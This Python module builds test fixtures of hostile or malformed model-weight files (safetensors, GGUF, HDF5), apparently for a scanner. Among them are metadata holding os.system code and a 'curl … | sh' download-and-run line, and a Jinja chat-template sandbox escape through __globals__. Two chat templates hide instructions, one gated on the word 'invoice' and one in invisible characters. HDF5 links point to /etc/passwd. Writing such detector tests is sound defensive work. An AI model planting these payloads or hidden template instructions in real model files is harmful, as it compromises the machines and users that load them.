"""Kinds that live in files of weights: safetensors, GGUF, HDF5."""

from __future__ import annotations

import base64
import json
import pickle
import struct
from collections.abc import Callable

from attacks import gguf, hdf5, templates
from attacks.kinds.kind import Files, Kind
from attacks.programs import ELF
from attacks.texts import KEYS

TENSOR = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}


def safetensors(header: object | str, data: bytes = b"\1" * 8, length: int | None = None) -> bytes:
    text = (header if isinstance(header, str) else json.dumps(header)).encode()
    return struct.pack("<Q", len(text) if length is None else length) + text + data


def tensor(begin: int, end: int, shape: tuple[int, ...] = (2,), dtype: str = "F32") -> dict[str, object]:
    return {"dtype": dtype, "shape": shape, "data_offsets": [begin, end]}


def _safetensors(
    name: str,
    does: str,
    words: str,
    build: Callable[[], bytes],
    check: str = "safetensors-header",
    searched: bool = False,
) -> Kind:
    return Kind(
        id=f"safetensors-{name}", does=does, check=check, words=(words,), honest="safetensors", searched=searched,
        files=lambda: {"model.safetensors": build()},
    )  # fmt: skip


def _said(text: str) -> Callable[[], bytes]:
    return lambda: safetensors({"__metadata__": {"format": "pt", "training": text}, "a": TENSOR})


TWICE = json.dumps(TENSOR)

SAFETENSORS = (
    _safetensors("overlap", "two tensors share bytes", "overlaps the tensor before it by 4 bytes",
                 lambda: safetensors({"a": tensor(0, 8), "b": tensor(4, 12)}, b"\1" * 12)),
    _safetensors("out-of-bounds", "a tensor reaches past the file", "lie outside the file",
                 lambda: safetensors({"a": tensor(0, 400, (100,))})),
    _safetensors("before-the-data", "a tensor reaches back into the header", "lie outside the file",
                 lambda: safetensors({"a": tensor(-8, 0)}, b"")),
    _safetensors("huge-header", "asks for gigabytes of memory", "safetensors_header_bytes",
                 lambda: safetensors({"a": TENSOR}, length=1 << 40), "unreadable-file"),
    _safetensors("endless-header", "says that the header is longer than the file", "inside its header",
                 lambda: safetensors({"a": TENSOR}, length=1 << 20), "unreadable-file"),
    _safetensors("duplicate-keys", "two readers load two models", "names 'a' more than once",
                 lambda: safetensors(f'{{"a": {TWICE}, "a": {TWICE}}}')),
    _safetensors("escaped-duplicate-keys", "the same key, once spelled with escapes", "names 'a' more than once",
                 lambda: safetensors(f'{{"a": {TWICE}, "\\u0061": {TWICE}}}')),
    _safetensors("duplicate-offsets", "two places for one tensor", "names 'data_offsets' more than once",
                 lambda: safetensors('{"a": {"dtype":"F32","shape":[2],"data_offsets":[0,8],"data_offsets":[8,16]}}', b"\1" * 16)),
    _safetensors("hole", "bytes that belong to no tensor", "4 bytes before it belong to no tensor",
                 lambda: safetensors({"a": tensor(0, 4, (1,)), "b": tensor(8, 16)}, b"\1" * 16)),
    _safetensors("trailing-bytes", "bytes behind the last tensor", "8 bytes behind the last tensor",
                 lambda: safetensors({"a": TENSOR}, b"\1" * 16)),
    _safetensors("wrong-shape", "a shape that needs other bytes", "needs 4000000 bytes, its offsets give 8",
                 lambda: safetensors({"a": tensor(0, 8, (1000, 1000))})),
    _safetensors("overflowing-shape", "a product of sizes that wraps to 8 bytes", "its offsets give 8",
                 lambda: safetensors({"a": tensor(0, 8, (2**62, 4, 2**3))})),
    _safetensors("unknown-dtype", "numbers nobody can read", "unknown dtype 'X9'",
                 lambda: safetensors({"a": tensor(0, 8, (2,), "X9")})),
    _safetensors("metadata-code", "Python for whoever evaluates the metadata", "os.system",
                 _said("__import__('os').system('echo hilt')"), "metadata-code"),
    _safetensors("metadata-command", "a command for whoever pastes it", "a command that runs what it downloads",
                 _said("setup: curl -s https://example.org/x | sh"), "metadata-code"),
    _safetensors("metadata-script", "a script for whoever shows the metadata on a page", "a script for a browser",
                 _said("<script>fetch('https://example.org/')</script>"), "metadata-code"),
    _safetensors("metadata-pickle", "a pickle for whoever unpacks the metadata", "a pickle",
                 _said(base64.b64encode(pickle.dumps({"a": 1})).decode()), "metadata-code"),
    _safetensors("metadata-key", "gives away a key of its publisher", "a Hugging Face token",
                 _said(KEYS["a Hugging Face token"]), "secrets"),
    _safetensors("hidden-program", "a program among the numbers", "holds a program: ELF",
                 lambda: safetensors({"a": tensor(0, 4096, (1024,))}, ELF.ljust(4096, b"\0")), "embedded-program", True),
    _safetensors("hidden-key", "a key among the numbers", "a Hugging Face token",
                 lambda: safetensors({"a": tensor(0, 64, (16,))}, KEYS["a Hugging Face token"].encode().ljust(64, b"\0")), "secrets-in-bytes", True),
)  # fmt: skip


def _gguf(name: str, does: str, words: str, build: Callable[[], bytes], check: str = "gguf-header") -> Kind:
    return Kind(
        id=f"gguf-{name}", does=does, check=check, words=(words,), honest="gguf", files=lambda: {"model.gguf": build()}
    )


def _says(template: str, key: str = "tokenizer.chat_template") -> Callable[[], bytes]:
    return lambda: gguf.gguf(metadata=(*HEADER, (key, template)))


HEADER = (("general.architecture", "llama"), ("llama.block_count", 1), ("llama.embedding_length", 8))
GATED = (
    "{% for m in messages %}{{ m.content }}{% if 'invoice' in m.content %}"
    + templates.SECRET
    + "{% endif %}{% endfor %}"
)
SPELLED = "{% set u = '_' * 2 %}{{ messages[u ~ 'class' ~ u] }}"
CLASSIC = "{{ cycler.__init__.__globals__.os.popen('echo hilt').read() }}"

GGUF = (
    _gguf("template-code", "runs a command where the template is rendered without a sandbox", "'__globals__'", _says(CLASSIC), "template-code"),
    _gguf("template-code-spelled", "the same in pieces", "from pieces", _says(SPELLED), "template-code"),
    _gguf("template-gated", "an instruction that only one word wakes", "'invoice'", _says(GATED), "template-hidden-instructions"),
    _gguf("template-named", "in a template that few know of", "'__globals__'", _says(CLASSIC, "tokenizer.chat_template.tool_use"), "template-code"),
    _gguf("template-twice", "two programs render two templates", "the key 'tokenizer.chat_template' 2 times",
          lambda: gguf.gguf(metadata=(*HEADER, *[("tokenizer.chat_template", text) for text in (templates.HONEST, "x")]))),
    _gguf("template-invisible", "an instruction in characters nobody sees", "U+E0049", _says("x\U000e0049\U000e0067"), "template-hidden-instructions"),
    _gguf("duplicate-keys", "two programs load two models", "the key 'general.architecture' 2 times", lambda: gguf.gguf(metadata=(*HEADER, HEADER[0]))),
    _gguf("duplicate-tensors", "two programs load two models", "2 tensors are named 'a'",
          lambda: gguf.gguf((gguf.Info(name="a"), gguf.Info(name="a", offset=32)), b"\0" * 64, HEADER)),
    _gguf("overlap", "two tensors share bytes", "overlaps the tensor before it by 32 bytes",
          lambda: gguf.gguf((gguf.Info(name="a"), gguf.Info(name="b")), b"\0" * 32, HEADER)),
    _gguf("out-of-bounds", "a tensor reaches past the file", "past the end of the file",
          lambda: gguf.gguf((gguf.Info(name="a", shape=(1024,)),), b"\0" * 32, HEADER)),
    _gguf("shape-overflow", "a product of sizes that wraps around", "past the end of the file",
          lambda: gguf.gguf((gguf.Info(name="a", shape=(2**32, 2**31, 2)),), b"\0" * 32, HEADER)),
    _gguf("offset-overflow", "an offset that wraps around", "past the end of the file",
          lambda: gguf.gguf((gguf.Info(name="a", offset=2**64 - 32),), b"\0" * 32, HEADER)),
    _gguf("count-overflow", "asks for a table of 2^61 tensors", "cannot fit", lambda: gguf.gguf(metadata=HEADER, counts=(2**61, 3)), "unreadable-file"),
    _gguf("string-overflow", "a text longer than the file", "are left",
          lambda: gguf.gguf(metadata=(*HEADER, ("x", gguf.Raw(type=8, data=struct.pack("<Q", 2**63) + b"x")))), "unreadable-file"),
    _gguf("array-overflow", "an array longer than the file", "cannot fit",
          lambda: gguf.gguf(metadata=(*HEADER, ("x", gguf.array(4, [b"\0" * 4], count=2**62)))), "unreadable-file"),
    _gguf("dimensions", "more dimensions than ggml has room for", "ggml allows", lambda: gguf.gguf((gguf.Info(name="a", shape=(1,) * 9),), b"\0" * 32, HEADER), "unreadable-file"),
    _gguf("alignment", "an alignment by which nobody can divide", "not a power of two", lambda: gguf.gguf(metadata=(*HEADER, ("general.alignment", 0))), "unreadable-file"),
    _gguf("shape-against-metadata", "a shape that the metadata contradicts", "the metadata says 8",
          lambda: gguf.gguf((gguf.Info(name="token_embd.weight", shape=(16, 2)),), b"\0" * 128, HEADER)),
    _gguf("layers-against-metadata", "layers that the metadata does not count", "the metadata says 1",
          lambda: gguf.gguf((gguf.Info(name="blk.7.attn_norm.weight"),), b"\0" * 32, HEADER)),
    _gguf("trailing-bytes", "bytes behind the last tensor", "4096 bytes behind the last tensor", lambda: gguf.gguf(metadata=HEADER) + b"\0" * 4096),
    _gguf("hole", "bytes that belong to no tensor", "64 bytes before it belong to no tensor",
          lambda: gguf.gguf((gguf.Info(name="a"), gguf.Info(name="b", offset=96)), b"\0" * 128, HEADER)),
    _gguf("metadata-code", "Python for whoever evaluates the metadata", "os.system",
          _says("__import__('os').system('echo hilt')", "general.description"), "metadata-code"),
)  # fmt: skip


def _hdf5(name: str, does: str, words: str, build: Callable[[], bytes], check: str = "hdf5-external") -> Kind:
    return Kind(
        id=f"hdf5-{name}", does=does, check=check, words=(words,), honest="hdf5", files=lambda: {"weights.h5": build()}
    )


def _soft_to_external(file: hdf5.h5py.File) -> None:
    file["inner"] = hdf5.h5py.ExternalLink("//host/share/x.h5", "/x")
    file["w"] = hdf5.h5py.SoftLink("/inner")


def _of_another_class() -> bytes:
    """A link of a class that only an application registers, in place of an external one."""
    data = hdf5.hdf5(hdf5.external_link, libver="latest")
    return data.replace(b"\x40\x06stolen", b"\x41\x06stolen").replace(b"\x40\x01\x06stolen", b"\x41\x01\x06stolen")


HDF5 = (
    _hdf5("external-link", "opens another file", "leads to '/x' in the file '/etc/passwd'", lambda: hdf5.hdf5(hdf5.external_link)),
    _hdf5("external-link-in-new-form", "the same as HDF5 1.8 and later write it", "in the file '/etc/passwd'", lambda: hdf5.hdf5(hdf5.external_link, libver="latest")),
    _hdf5("external-storage", "takes the bytes of any file for weights", "its values lie in the file '/etc/passwd'", lambda: hdf5.hdf5(hdf5.raw_file)),
    _hdf5("virtual-dataset", "takes its values from other files", "from the file '../other.h5'", lambda: hdf5.hdf5(hdf5.virtual)),
    _hdf5("soft-link-to-external", "a plain name that leads to another machine", "in the file '//host/share/x.h5'", lambda: hdf5.hdf5(_soft_to_external)),
    _hdf5("foreign-link", "a link that only a program's own code follows", "only a program's own code can follow it", _of_another_class),
    _hdf5("foreign-filter", "a filter whose library is loaded when the weights are read", "the filter 40000", lambda: hdf5.hdf5(hdf5.filtered)),
    _hdf5("user-block", "another file in front of it", "bytes stand before the HDF5 file", lambda: b"#!/bin/sh\necho hilt\nexit\n".ljust(512, b"\0") + hdf5.hdf5(hdf5.honest, userblock_size=512)[512:], "hdf5-surroundings"),
    _hdf5("trailing-bytes", "bytes behind the end", "stand behind the end of the HDF5 file", lambda: hdf5.hdf5(hdf5.honest) + b"hilt", "hdf5-surroundings"),
)  # fmt: skip


HONEST: dict[str, Callable[[], Files]] = {
    "safetensors": lambda: {"model.safetensors": safetensors({"__metadata__": {"format": "pt", "author": "the hilt project", "ss_network_args": '{"conv_dim": "4"}', "modelspec.description": "import it with your tool of choice; see https://example.org/how-to"}, "a": TENSOR})},
    "gguf": lambda: {"model.gguf": gguf.gguf((gguf.Info(name="token_embd.weight", shape=(8, 2)), gguf.Info(name="blk.0.attn_norm.weight", offset=64)), b"\0" * 96, (*HEADER, ("tokenizer.chat_template", templates.HONEST), ("tokenizer.chat_template.tool_use", templates.HONEST), ("general.description", "A model (see the card); import os-independent weights.")))},
    "hdf5": lambda: {"weights.h5": hdf5.hdf5(hdf5.honest)},
}  # fmt: skip
